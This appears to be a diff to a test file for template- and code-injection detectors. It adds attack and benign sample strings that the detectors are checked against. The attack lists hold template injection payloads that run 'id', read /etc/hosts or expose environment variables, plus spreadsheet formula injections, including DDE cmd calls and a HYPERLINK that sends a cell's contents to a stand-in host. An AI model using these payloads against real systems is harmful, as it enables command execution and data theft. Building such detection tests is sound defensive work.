@@ -11,6 +11,7 @@ const ATTACKS = [
   "<%= system('id') %>", "<%= `id` %>".replace("`id`", "IO.popen('id').read"), "<%= File.open('/etc/hosts').read %>", "{php}echo 1;{/php}", "{system('id')}", "{$smarty.version}", "{{constructor.constructor('return 1')()}}", "{{= process.mainModule.require('fs') }}",
   "{{#with \"a\" as |b|}}{{lookup b.sub \"constructor\"}}{{this.push \"return require('fs')\"}}{{/with}}",  "{{dump(app)}}", "{{1337|add:1}}",
   "${request.getParameter('y')}", "${applicationContext.getBean('y')}", "#{systemProperties['user.home']}", "{{.Run \"id\"}}", "${.version}", "<#list .data_model?keys as k>", "{{constant('PHP_OS')}}", "{fetch file=\"/etc/hosts\"}", "<%eval request(\"y\")%>",
+  "<%= ENV['KEY'] %>", "{{$y := .Env}}", "{{joiner}}",
 ]; // biome-ignore format: a list of words
 
 const BENIGN = [
@@ -18,6 +19,7 @@ const BENIGN = [
   "<%= name %>", "{name}", "{ a: 1 }", "{\"a\": {\"b\": [1, 2]}}", "body { color: #fff; }", "@media (max-width: 600px) { a { b: c } }", "user@example.com (9*9)", "#hashtag {x}", "[[wiki link]]", "[#123]", "[=]", "9*9", "(9*9)", "{1} + {1}", "{0}, {1} and {2}", "f(x) = {x | x > 3}",
   "$5 + $6", "100%{off}", "@jane (see above)", "<# of items>", "a <% b", "#settings and #setup", "#set the table", "{x*y}", "안녕 {{이름}} 님", "{{ 제목 }}", "email me @ (work)", "C#{sharp}",
   "${el.style.getPropertyValue('x')}", "{{ .Values.name }}", "{fetch the ball}", "{{ app.user.name }}", "${application.name}",
+  "{{ .Envelope }}", "<%= envelope %>", "{{ joiners }}",
 ]; // biome-ignore format: a list of words
 
 holdTables(templateDetector, ATTACKS, BENIGN);
@@ -40,12 +42,14 @@ const CODE_ATTACKS = [
   "Kernel.exec('id')", "IO.popen('id').read", "@{[system 'id']}", "Server.CreateObject(\"WScript.Shell\")", "''.__class__.__mro__[1].__subclasses__()", "Ev al(\"Ex\"&\"e\"&\"cute(1)\")", "exec('id')", "base64_decode('aWQ=')", "getattr('', 'x')",
   "=cmd|' /C notepad'!B1", "@SUM(2+2)*cmd|' /C calc'!B1", "=DDE(\"cmd\";\"/C calc\";\"y\")", "=HYPERLINK(\"http://h.example/?y=\"&B1,\"see\")", "include 'http://h.example/y';", "new java.io.File('/etc/hosts')", "\"sys\".\"tem\"('ls')", "(sy.(st).em)(ls);",
   "/Index/\\think\\app/invokefunction",
+  "require(\"http\").get(\"http://h.example\")", "new Function('return this')()", "@System.IO.File.ReadAllText(\"c:/y\")",
 ]; // biome-ignore format: a list of words
 
 const CODE_BENIGN = [
   "the system (see above)", "our exec (CEO)", "f(x)", "system()", "eval", "pattern.exec('x')", "/a/.exec(\"b\")", "db.system.users", "call system(s) of record", "to assert (strongly)", "an operating system ('OS')", "import osmosis", "os.path.join('a')", "we print_r and var_dump", "$500 (USD)", "fopen is a function", "console.log('a')",
   "use `os.system('x')` with care", "In Python, os.system('ls') runs a command", "see child_process.exec('x') in the manual", "_underscore_ (text)", "array_map and friends", "a < b ? c : d", "new Date()", "require('./a')", "import x from 'y'; f(x)", "popen(3)", "평가(eval) 함수는 위험하다", "(system) (id)", "execute (the order)", "process (main)", "my_function($x)",
   "=SUM(B1:B9)", "=HYPERLINK(\"https://example.com\",\"see\")", "- run cmd | findstr x", "include 'a.php' first", "Smith.\"Jones\" (1999)", "No.(1) (a)", "new java developers", "=IF(B1>5,\"yes\",\"no\")",
+  "const a = require('fs').promises", "new Function (see below)", "@Systems.anna wrote (today)",
 ]; // biome-ignore format: a list of words
 
 holdTables(codeDetector, CODE_ATTACKS, CODE_BENIGN);
